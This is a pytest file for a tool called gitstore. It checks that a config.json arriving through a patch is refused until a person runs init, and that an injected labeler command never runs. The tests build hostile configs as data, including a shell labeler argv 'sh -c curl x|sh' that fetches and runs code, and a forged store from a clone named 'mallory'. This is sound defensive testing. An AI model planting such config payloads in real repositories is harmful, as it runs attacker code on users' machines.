"""What tells a config.json init took from one that arrived with a patch (``git apply`` writes
the file and leaves git no object): the work tree's git folder, which no patch reaches, keeps
the copy init accepted. Nothing else there may pass for it: a purge forgets it all, a refused
init keeps nothing (not even the scope), and a patch changing the writer or the provider is
refused until init takes the file, so a store another clone wrote is never opened."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pygit2

from gitstore.config import ACCEPTED_NAME, ACCEPTED_WRITERS_NAME, OWN_CONFIG_NAME, STATE_DIR
from gitstore.scope import keep_scope, scope_and_kept

from . import cli
from .conftest import git
from .team import commit_all, first_clone, seeded_remote, shared_remote

CONFIG = STATE_DIR / "config.json"


def _config(root: Path) -> dict[str, Any]:
    return dict(json.loads((root / CONFIG).read_text()))


def _hostile(marker: Path, writer: str = "w0ma11050000") -> dict[str, Any]:
    program = f"touch {marker}; cat >/dev/null; echo '{{\"labels\": []}}'"
    return {"writer": writer, "provider": "git", "automation": {"autoSafe": True},
            "dream": {"labeler": "command", "labelers": {"command": {"argv": ["sh", "-c", program]}}}}


def _apply(root: Path, tmp: Path, new: dict[str, Any], old: bytes | None = None,
           extra: Path | None = None) -> None:
    """Apply to ``root`` with ``git apply`` a patch that writes config.json as ``new`` (over
    ``old``, when given), and adds the files of the folder ``extra`` under the state folder."""
    work = tmp / f"patching-{len(list(tmp.glob('patching-*')))}"
    git(tmp, "init", "-q", "-b", "main", str(work))
    (work / STATE_DIR).mkdir(parents=True)
    if old is not None:
        (work / CONFIG).write_bytes(old)
        git(work, "add", "-f", ".")
        git(work, "commit", "-q", "-m", "as it is")
    (work / CONFIG).write_text(json.dumps(new, indent=2) + "\n")
    if extra is not None:
        shutil.copytree(extra, work / STATE_DIR / extra.name, ignore=shutil.ignore_patterns("lock"))
    git(work, "add", "-f", "-N", ".")
    patch = work.parent / f"{work.name}.patch"
    patch.write_text(git(work, "diff", "--binary"))
    git(root, "apply", str(patch))


def _git_dir(root: Path) -> Path:
    return Path(git(root, "rev-parse", "--absolute-git-dir").strip())


def _never_ran(root: Path) -> None:
    error = cli.fails(1, "status", cwd=root)
    assert "this clone never ran `gitstore init`" in error, error
    assert not (_git_dir(root) / ACCEPTED_NAME).exists()


def _init_replaces_it(root: Path, marker: Path) -> None:
    assert "was there before this clone ever ran `gitstore init`" in cli.ok("init", cwd=root)
    assert "dream" not in _config(root) and "automation" not in _config(root)
    assert "dream" not in json.loads((_git_dir(root) / ACCEPTED_NAME).read_text())
    assert not marker.exists()



def _patched_is_never_the_clones(tmp_path: Path, root: Path) -> None:
    """A patch bringing a config.json with a labeler is refused by every command, its labeler
    never runs, and init writes the clone its own."""
    marker = tmp_path / "labeler-ran"
    _apply(root, tmp_path, _hostile(marker))
    _never_ran(root)
    _init_replaces_it(root, marker)

def _scope(root: Path) -> str:
    return str(json.loads(cli.ok("status", "--json", cwd=root))["scope"])


def test_after_a_purge_a_patched_config_is_not_the_clones_in_any_work_tree(tmp_path: Path) -> None:
    alice = first_clone(tmp_path, shared_remote(tmp_path))
    linked = tmp_path / "alice-agent"
    git(alice, "worktree", "add", "-q", "-b", "agent", str(linked))
    cli.ok("init", cwd=linked)
    cli.ok("purge", "--confirm", _scope(alice), cwd=alice)
    for folder in (_git_dir(alice), _git_dir(linked)):
        assert not (folder / OWN_CONFIG_NAME).exists() and not (folder / "gitstore").exists(), folder
    _patched_is_never_the_clones(tmp_path, alice)


def test_the_owned_bytes_a_purge_left_behind_do_not_make_a_patch_the_clones(tmp_path: Path) -> None:
    """As an older purge left a clone: the record of the bytes it owned, nothing else."""
    alice = first_clone(tmp_path, shared_remote(tmp_path))
    own = (_git_dir(alice) / OWN_CONFIG_NAME).read_bytes()
    cli.ok("purge", "--confirm", _scope(alice), cwd=alice)
    (_git_dir(alice) / OWN_CONFIG_NAME).write_bytes(own)
    _patched_is_never_the_clones(tmp_path, alice)


def test_a_refused_init_keeps_nothing_and_a_patch_after_it_is_not_the_clones(tmp_path: Path) -> None:
    bare = seeded_remote(tmp_path)
    seed = tmp_path / "seed"
    (seed / ".gitignore").write_text("!okf/.memory/\n")
    commit_all(seed, "un-ignore")
    git(seed, "push", "-q", "origin", "main")
    bob = tmp_path / "bob"
    git(tmp_path, "clone", "-q", str(bare), str(bob))
    assert "un-ignores it" in cli.fails(1, "init", cwd=bob)
    assert scope_and_kept(pygit2.Repository(str(bob)))[1] is None
    (bob / ".gitignore").write_text("")
    _patched_is_never_the_clones(tmp_path, bob)


def test_a_scope_an_older_refused_init_kept_does_not_make_a_patch_the_clones(tmp_path: Path) -> None:
    """As older versions left a refused init: the scope kept, and nothing an init that ran to
    its end makes (no memory fetch refspecs, no local namespace)."""
    bare = seeded_remote(tmp_path)
    bob = tmp_path / "bob"
    git(tmp_path, "clone", "-q", str(bare), str(bob))
    repo = pygit2.Repository(str(bob))
    keep_scope(repo, scope_and_kept(repo)[0])
    _patched_is_never_the_clones(tmp_path, bob)


def test_a_clone_set_up_before_copies_were_kept_is_still_set_up(tmp_path: Path) -> None:
    alice = first_clone(tmp_path, shared_remote(tmp_path))
    before = _config(alice)
    for left in (_git_dir(alice) / OWN_CONFIG_NAME, _git_dir(alice) / ACCEPTED_NAME,
                 _git_dir(alice) / ACCEPTED_WRITERS_NAME):
        left.unlink()  # as a version that kept the scope alone left the clone
    assert cli.gitstore("status", cwd=alice).stderr == ""
    assert json.loads((_git_dir(alice) / ACCEPTED_NAME).read_text()) == before


def test_a_patch_changing_the_writer_alone_is_refused_until_init_takes_it(tmp_path: Path) -> None:
    bare = shared_remote(tmp_path)
    alice = first_clone(tmp_path, bare)
    cli.ok("grant", "--purpose", "review", "--note", "alice's", cwd=alice)
    mine = (alice / CONFIG).read_bytes()
    theirs = {**_config(alice), "writer": "wca201000001"}
    _apply(alice, tmp_path, theirs, old=mine)
    error = cli.fails(1, "grant", "--purpose", "review", "--note", "as carol", cwd=alice)
    assert f"writer changed from {json.loads(mine)['writer']} to wca201000001" in error, error
    assert "run `gitstore init --accept-changes` to take the file" in error
    assert "refs/memory/v1/records/shared/wca201000001" not in git(alice, "for-each-ref")
    (alice / CONFIG).write_bytes(mine)  # put back
    assert "alice's" in cli.ok("grants", cwd=alice)
    _apply(alice, tmp_path, theirs, old=mine)
    refused = cli.fails(1, "init", cwd=alice)  # init names what changed: a person takes it knowingly
    assert "writer changed since" in refused and "gitstore init --accept-changes" in refused, refused
    assert _config(alice)["writer"] == "wca201000001" and cli.gitstore("status", cwd=alice).returncode == 1
    cli.ok("init", "--accept-changes", cwd=alice)  # the person's own change: init takes it
    assert cli.gitstore("status", cwd=alice).stderr == "" and _config(alice)["writer"] == "wca201000001"


def test_a_patch_swapping_the_provider_with_a_store_claiming_the_clones_writer_is_refused(tmp_path: Path) -> None:
    bare = shared_remote(tmp_path)
    alice = first_clone(tmp_path, bare)
    writer = _config(alice)["writer"]
    mallory = tmp_path / "mallory"
    git(tmp_path, "clone", "-q", str(bare), str(mallory))
    cli.ok("init", "--provider", "jsonl", "--writer", writer, cwd=mallory)
    cli.ok("grant", "--purpose", "review", "--note", "mallory planted", cwd=mallory)
    mine = (alice / CONFIG).read_bytes()
    _apply(alice, tmp_path, {"writer": writer, "provider": "jsonl"}, old=mine, extra=mallory / STATE_DIR / "jsonl")
    done = cli.gitstore("grants", cwd=alice)
    assert done.returncode == 1 and "mallory planted" not in done.stdout, done
    assert "provider changed from git to jsonl" in done.stderr and "writer changed" not in done.stderr, done
    assert not (_git_dir(alice) / "gitstore" / "jsonl.store").exists()
    check = [line for line in cli.gitstore("doctor", cwd=alice).stdout.splitlines() if "provider changed" in line]
    assert check and check[0].startswith("FAIL init"), check


def test_init_names_each_change_it_takes_with_its_value_and_the_program_a_labeler_runs(tmp_path: Path) -> None:
    """A plain init over a changed labeler and automation refuses, showing what they are now;
    `--accept-changes` says which fields it took and what each holds (a command labeler's argv
    spelled out), in text and in --json's ``accepted``, never that there was nothing to change."""
    bare = shared_remote(tmp_path)
    alice = first_clone(tmp_path, bare)
    mine = (alice / CONFIG).read_bytes()
    changed = {**_config(alice), "capture": {"mode": "hybrid"}, "automation": {"autoSafe": True},
               "dream": {"labeler": "command", "labelers": {"command": {"argv": ["sh", "-c", "curl x|sh"],
                                                                          "timeout": 10}}}}
    _apply(alice, tmp_path, changed, old=mine)
    refused = cli.fails(1, "init", cwd=alice)
    assert refused.count("\n") == 1, refused
    assert "automation.autoSafe, capture.mode, dream.labeler, dream.labelers changed since" in refused, refused
    assert ('now automation.autoSafe = true; capture.mode = "hybrid"; dream.labeler = "command"; dream.labelers = {"command": {"argv": '
            '["sh", "-c", "curl x|sh"], "timeout": 10}} (runs `sh -c \'curl x|sh\'`); read the file') in refused, refused
    said = cli.ok("init", "--accept-changes", cwd=alice)
    assert "nothing to change" not in said, said
    assert "  accepted automation.autoSafe = true\n" in said and '  accepted capture.mode = "hybrid"\n' in said
    assert "  accepted dream.labeler = \"command\"\n" in said
    assert "(runs `sh -c 'curl x|sh'`)" in said, said
    assert "nothing to change" in cli.ok("init", "--accept-changes", cwd=alice)  # taken: nothing changed since
    del changed["automation"]
    changed["dream"]["labelers"] = {"command": {"argv": ["my-labeler", "--json"]}}
    _apply(alice, tmp_path, changed, old=(alice / CONFIG).read_bytes())
    report = json.loads(cli.ok("init", "--accept-changes", "--json", cwd=alice))
    assert report["accepted"] == [{"field": "automation.autoSafe", "value": None, "removed": True},
                                  {"field": "dream.labelers", "value": {"command": {"argv": ["my-labeler", "--json"]}},
                                   "removed": False}], report


def test_a_patch_turning_writer_given_on_is_refused_until_init_takes_it(tmp_path: Path) -> None:
    """``writerGiven`` has sync take what the remote holds under this clone's writer id as the
    clone's own history (a CI job's fresh checkout continuing its writer): a patch turning it on
    is refused by every command, and by a plain init, until a person takes the file."""
    bare = shared_remote(tmp_path)
    alice = first_clone(tmp_path, bare)
    mine = (alice / CONFIG).read_bytes()
    _apply(alice, tmp_path, {**_config(alice), "writerGiven": True}, old=mine)
    for argv in (("sync",), ("status",), ("grants",)):
        error = cli.fails(1, *argv, cwd=alice)
        assert "writerGiven changed from false to true" in error and "gitstore init --accept-changes" in error, error
    refused = cli.fails(1, "init", cwd=alice)
    assert "writerGiven" in refused and "--accept-changes" in refused, refused
    assert "writerGiven" not in json.loads((_git_dir(alice) / ACCEPTED_NAME).read_text())
    said = cli.ok("init", "--accept-changes", cwd=alice)
    assert "accepted writerGiven = true" in said, said
    assert cli.gitstore("status", cwd=alice).returncode == 0
    (alice / CONFIG).write_bytes(mine)  # turned off again: nothing is taken that a person did not see
    assert cli.gitstore("status", cwd=alice).returncode == 0
